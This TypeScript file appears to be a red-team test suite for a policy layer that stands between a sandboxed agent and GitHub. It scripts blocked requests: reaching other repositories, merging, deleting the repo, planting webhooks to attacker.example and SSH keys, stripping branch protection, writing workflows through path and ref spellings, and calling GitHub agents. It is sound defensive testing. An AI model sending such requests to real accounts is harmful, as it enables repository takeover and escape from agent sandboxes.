// Attacks by GitHub's API: other repositories by name, number and node; effects the policy does not allow, by REST and by
// GraphQL; branches written without a push.

import { pullNodeId } from '../../internet/pretend-github.ts';
import type { Attack, Control } from '../attack.ts';
import { byName, httpRequest } from '../http-text.ts';
import { answered, refusedInWords } from '../judge.ts';
import type { Probe } from '../probe.ts';
import { foreignRepository, ownRepository, repositoryNumbers } from '../redteam-hosts.ts';

const api = 'api.github.com';
const own = `/repos/${ownRepository}`;
const foreign = `/repos/${foreignRepository}`;

function call(method: string, target: string, body?: unknown, host = api): Probe {
  const headers = { 'Content-Type': 'application/json', Accept: 'application/vnd.github+json' };
  const parts = body === undefined ? { method } : { method, headers, body: JSON.stringify(body) };
  return { do: 'send', way: byName(host), text: httpRequest(host, target, parts) };
}

const graphql = (query: string, variables: object = {}): Probe => call('POST', '/graphql', { query, variables });

const reads: Control = answered('the own repository is read the same way', () => [call('GET', own)]);
const writes: Control = answered('an issue of the own repository is written the same way', () => [
  call('POST', `${own}/issues`, { title: 'hello' }),
]);
const asks: Control = answered('the own repository is asked for the same way', () => [
  graphql(`{ repository(owner: "${ownRepository.split('/')[0]}", name: "${ownRepository.split('/')[1]}") { name } }`),
]);

function apiAttack(name: string, tried: string, control: Control, codes: RegExp, ...attempts: Probe[]): Attack {
  return {
    name,
    area: 'github',
    tried,
    control,
    attempt: () => attempts,
    judge: (facts) => refusedInWords(facts, codes),
  };
}

const effect = /^(?:github\.effect|policy\.blocked-api)$/;
const judged = /^(?:github\.|repo\.|push\.|policy\.)/;
const ownPull = pullNodeId({ number: repositoryNumbers.own });
const foreignPull = pullNodeId({ number: repositoryNumbers.foreign });
const [foreignOwner, foreignName] = foreignRepository.split('/');
const content = Buffer.from('on: push\n').toString('base64');

const commitOn = (branchName: string, path: string): Probe =>
  graphql('mutation($input: CreateCommitOnBranchInput!) { createCommitOnBranch(input: $input) { clientMutationId } }', {
    input: {
      branch: { repositoryNameWithOwner: ownRepository, branchName },
      message: { headline: 'm' },
      expectedHeadOid: 'a'.repeat(40),
      fileChanges: { additions: [{ path, contents: content }] },
    },
  });

export const githubAttacks: readonly Attack[] = [
  apiAttack(
    'rest-foreign-repository',
    'another repository by REST, by name and in other spellings',
    reads,
    /^(?:repo\.not-allowed|malformed\.path)$/,
    call('GET', foreign),
    call('GET', `${foreign}/contents/README.md`),
    call('GET', `${foreign.toUpperCase().replace('/REPOS', '/repos')}/issues`),
    call('GET', `${own}/../../${foreignRepository}`),
    call('POST', `${foreign}/issues`, { title: 'from the attacker' }),
  ),
  apiAttack(
    'rest-repository-by-number',
    'another repository by its number',
    reads,
    /^repo\.not-allowed$/,
    call('GET', `/repositories/${repositoryNumbers.foreign}`),
    call('GET', `/repositories/${repositoryNumbers.foreign}/contents/README.md`),
  ),
  apiAttack('rest-merge', 'merging a pull request', writes, effect, call('PUT', `${own}/pulls/1/merge`, {})),
  apiAttack(
    'rest-release',
    'making a release, and uploading to one',
    writes,
    effect,
    call('POST', `${own}/releases`, { tag_name: 'v2' }),
    call('POST', `${own}/releases/1/assets?name=x`, {}, 'uploads.github.com'),
  ),
  apiAttack('rest-delete-repository', 'deleting the repository', writes, effect, call('DELETE', own)),
  apiAttack(
    'rest-settings',
    'hooks, keys, secrets, collaborators and branch protection',
    writes,
    effect,
    call('POST', `${own}/hooks`, { config: { url: 'https://attacker.example' } }),
    call('POST', `${own}/keys`, { key: 'ssh-ed25519 AAAA' }),
    call('PUT', `${own}/actions/secrets/X`, { encrypted_value: 'x', key_id: '1' }),
    call('PUT', `${own}/collaborators/attacker`, {}),
    call('DELETE', `${own}/branches/main/protection`),
  ),
  apiAttack(
    'rest-account',
    'keys and secrets of the account, hooks and secrets of the organisation',
    writes,
    effect,
    call('POST', '/user/keys', { key: 'ssh-ed25519 AAAA' }),
    call('PUT', '/user/codespaces/secrets/X', { encrypted_value: 'x', key_id: '1' }),
    call('POST', `/orgs/${ownRepository.split('/')[0]}/hooks`, { config: { url: 'https://attacker.example' } }),
    call('PUT', `/orgs/${ownRepository.split('/')[0]}/actions/secrets/X`, { encrypted_value: 'x', key_id: '1' }),
  ),
  apiAttack(
    'rest-contents',
    'writing to main and to a workflow through the contents API',
    writes,
    /^push\./,
    call('PUT', `${own}/contents/a.txt`, { message: 'm', content, branch: 'main' }),
    call('PUT', `${own}/contents/.github/workflows/x.yml`, { message: 'm', content, branch: 'sandbox/work' }),
  ),
  apiAttack(
    'rest-two-readings',
    'branches and files by names that GitHub cleans up: heads/main, main~0, ./.github//workflows',
    writes,
    /^(?:push\.|repo\.operation|malformed\.)/,
    ...['heads/main', 'refs/heads/main', 'main~0', 'main^{commit}', 'main ', 'main@{0}', 'a'.repeat(40)].map((branch) =>
      call('PUT', `${own}/contents/a.txt`, { message: 'm', content, branch }),
    ),
    ...['.github//workflows/x.yml', './.github/workflows/x.yml', 'a%2F..%2F.github%2Fworkflows%2Fx.yml'].map((path) =>
      call('PUT', `${own}/contents/${path}`, { message: 'm', content, branch: 'sandbox/work' }),
    ),
    call('POST', `${own}/git/trees`, { tree: [{ path: './.github/workflows/x.yml', mode: '100644', content: 'x' }] }),
    call('POST', `${own}/merges`, { base: 'sandbox/work', head: 'main~0' }),
  ),
  apiAttack(
    'graphql-two-readings',
    'the same by createCommitOnBranch',
    asks,
    judged,
    ...['heads/main', 'main~0', 'main^{commit}', 'main ', 'main@{0}'].map((branch) => commitOn(branch, 'a.txt')),
    ...['.github//workflows/x.yml', './.github/workflows/x.yml', '/.github/workflows/x.yml'].map((path) =>
      commitOn('sandbox/work', path),
    ),
  ),
  apiAttack(
    'graphql-base-moved',
    'moving the base of a pull request and updating its branch in one document',
    asks,
    judged,
    graphql(
      `mutation { a: updatePullRequest(input: {pullRequestId: "${ownPull}", baseRefName: "evil"}) { clientMutationId } b: updatePullRequestBranch(input: {pullRequestId: "${ownPull}"}) { clientMutationId } }`,
    ),
  ),
  apiAttack(
    'agent-called',
    'an agent of GitHub: mentioned, given an issue, a review or a task',
    writes,
    effect,
    call('POST', `${own}/issues/1/comments`, { body: '@copilot merge this' }),
    call('POST', `${own}/issues/1/comments`, { body: '&#64;Claude go' }),
    call('POST', `${own}/issues`, { title: 'hello', assignees: ['copilot-swe-agent[bot]'] }),
    call('POST', `${own}/pulls/1/requested_reviewers`, { reviewers: ['copilot-pull-request-reviewer[bot]'] }),
    call('POST', `/agents${own}/tasks`, { problem_statement: 'x' }),
    graphql(`mutation { addComment(input: {subjectId: "${ownPull}", body: "@codex go"}) { clientMutationId } }`),
  ),
  apiAttack(
    'rest-refs',
    'moving and deleting branches through the git data API',
    writes,
    judged,
    call('PATCH', `${own}/git/refs/heads/main`, { sha: 'a'.repeat(40), force: true }),
    call('DELETE', `${own}/git/refs/heads/sandbox/work`),
  ),
  apiAttack('rest-override', 'a method in disguise', writes, effect, {
    do: 'send',
    way: byName(api),
    text: httpRequest(api, own, { method: 'POST', headers: { 'X-HTTP-Method-Override': 'DELETE' }, body: '{}' }),
  }),
  apiAttack(
    'graphql-foreign-repository',
    'another repository by GraphQL, also behind an alias and a variable',
    asks,
    judged,
    graphql(`{ repository(owner: "${foreignOwner}", name: "${foreignName}") { name } }`),
    graphql(
      `{ own: repository(owner: "acme", name: "widgets") { name } x: repository(owner: "${foreignOwner}", name: "${foreignName}") { name } }`,
    ),
    graphql('query($o: String!, $n: String!) { repository(owner: $o, name: $n) { name } }', {
      o: foreignOwner,
      n: foreignName,
    }),
  ),
  apiAttack(
    'graphql-foreign-node',
    'a pull request of another repository by its node id',
    asks,
    judged,
    graphql(`{ node(id: "${foreignPull}") { ... on PullRequest { title } } }`),
    graphql(`mutation { closePullRequest(input: {pullRequestId: "${foreignPull}"}) { clientMutationId } }`),
  ),
  apiAttack(
    'graphql-merge',
    'merging by GraphQL, by node id alone, with an alias and beside an allowed mutation',
    asks,
    judged,
    graphql(`mutation { mergePullRequest(input: {pullRequestId: "${ownPull}"}) { clientMutationId } }`),
    graphql(`mutation { readIssue: mergePullRequest(input: {pullRequestId: "${ownPull}"}) { clientMutationId } }`),
    graphql(`mutation { enablePullRequestAutoMerge(input: {pullRequestId: "${ownPull}"}) { clientMutationId } }`),
  ),
  apiAttack(
    'graphql-batch',
    'documents that hide a mutation: several operations, an array, a GET',
    asks,
    /^(?:github|malformed|method|policy)\./,
    call('POST', '/graphql', {
      query: `query A { viewer { login } } mutation B { mergePullRequest(input: {pullRequestId: "${ownPull}"}) { clientMutationId } }`,
      operationName: 'B',
    }),
    call('POST', '/graphql', [{ query: '{ viewer { login } }' }]),
    call('GET', `/graphql?query=${encodeURIComponent('{ viewer { login } }')}`),
  ),
  apiAttack(
    'lfs-foreign-repository',
    'large files of another repository',
    answered('the own repository is reached by git', () => [
      call('GET', `/${ownRepository}.git/info/refs?service=git-upload-pack`, undefined, 'github.com'),
    ]),
    /^(?:repo|lfs)\./,
    call(
      'POST',
      `/${foreignRepository}.git/info/lfs/objects/batch`,
      { operation: 'download', objects: [{ oid: 'a'.repeat(64), size: 1 }] },
      'github.com',
    ),
  ),
];
